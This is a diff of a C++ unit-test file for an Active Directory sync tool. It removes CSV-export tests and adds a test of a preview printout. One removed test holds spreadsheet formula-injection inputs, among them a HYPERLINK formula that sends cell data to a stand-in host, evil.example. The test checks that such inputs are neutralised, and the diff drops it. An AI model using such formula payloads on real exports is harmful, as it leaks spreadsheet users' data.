@@ -111,48 +111,30 @@ TEST(FormatResolve, ExplainsFoundAndMissing) {
   EXPECT_THAT(FormatResolve(missing), Not(HasSubstr("person:")));
 }
 
-TEST(FormatAccountsCsv, QuotesFieldsForSpreadsheets) {
-  adsync::v1::ListAccountsResponse r;
-  auto* a = r.add_accounts();
-  a->set_domain("DISTRICT");
-  a->set_sam_account_name("frontdesk1");
-  a->set_display_name("Desk, \"Front\"");
-  a->set_outcome("ambiguous");
-  a->add_candidate_person_ids("t-a");
-  a->add_candidate_person_ids("t-b");
-  const std::string csv = FormatAccountsCsv(r);
-  EXPECT_THAT(
-      csv,
-      HasSubstr(
-          "domain,sam_account_name,user_principal_name,mail,display_name"));
-  EXPECT_THAT(csv, HasSubstr("DISTRICT,frontdesk1,,,\"Desk, "
-                             "\"\"Front\"\"\",false,ambiguous,,t-a t-b,"));
-}
-
-// Whoever can edit an AD user controls its display name, mail and UPN; a
-// spreadsheet opening the export must show them as text, never run them.
-TEST(FormatAccountsCsv, NeutralizesSpreadsheetFormulas) {
-  adsync::v1::ListAccountsResponse r;
-  auto* a = r.add_accounts();
-  a->set_domain("DISTRICT");
-  a->set_sam_account_name("@SUM(1+1)");
-  a->set_user_principal_name("+1-555@district.org");
-  a->set_mail("-2+3@district.org");
-  a->set_display_name("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")");
-  a->set_object_guid("\t=1+1");
-  a->set_person_id("\r=1+1");
-  const std::string csv = FormatAccountsCsv(r);
-  const std::string row = csv.substr(csv.find('\n') + 1);
-  EXPECT_EQ(row,
-            "DISTRICT,\"'@SUM(1+1)\",\"'+1-555@district.org\","
-            "\"'-2+3@district.org\","
-            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\","
-            "false,,\"'\r=1+1\",,\"'\t=1+1\"\n");
-  // Only the first character matters: inner signs are ordinary text.
-  a->Clear();
-  a->set_mail("a=b@c-d.org");
-  a->set_display_name("Smith-Jones");
-  EXPECT_THAT(FormatAccountsCsv(r), HasSubstr(",,a=b@c-d.org,Smith-Jones,"));
+TEST(FormatPreview, ShowsCountsEachIdentityAndTheNextStep) {
+  adsync::v1::PreviewOrgResponse p;
+  p.mutable_org()->set_org_id("5e1c3d4a-6f1b-4d7e-9a0c-1f2e3d4c5b6a");
+  p.mutable_org()->set_name("Springfield");
+  p.set_people_added(1);
+  p.set_people_unchanged(4);
+  p.set_identities_added(1);
+  auto* c = p.add_changes();
+  c->set_kind(adsync::v1::PreviewChange::ADDED);
+  c->set_person_id("p-jane");
+  c->set_person_name("Jane Doe");
+  auto* id = c->add_proposed();
+  id->set_domain("DISTRICT");
+  id->set_sam_account_name("jdoe");
+  id->set_object_guid("0a0b");
+  const std::string out = FormatPreview(p, 1000);
+  EXPECT_THAT(out, HasSubstr("in preview (nothing is written to K12Panel)"));
+  EXPECT_THAT(out, HasSubstr("People:     1 added, 0 changed, 0 removed, 4 "
+                             "unchanged"));
+  EXPECT_THAT(out, HasSubstr("p-jane  Jane Doe  0a0b      added   -"));
+  EXPECT_THAT(out, HasSubstr("DISTRICT\\jdoe (disabled)"));
+  EXPECT_THAT(out, HasSubstr("adsyncctl org go-live --org 5e1c3d4a-"));
+  p.mutable_org()->set_live(true);
+  EXPECT_THAT(FormatPreview(p, 1000), Not(HasSubstr("go-live")));
 }
 
 TEST(Ago, ReadsLikeAnOpsTool) {
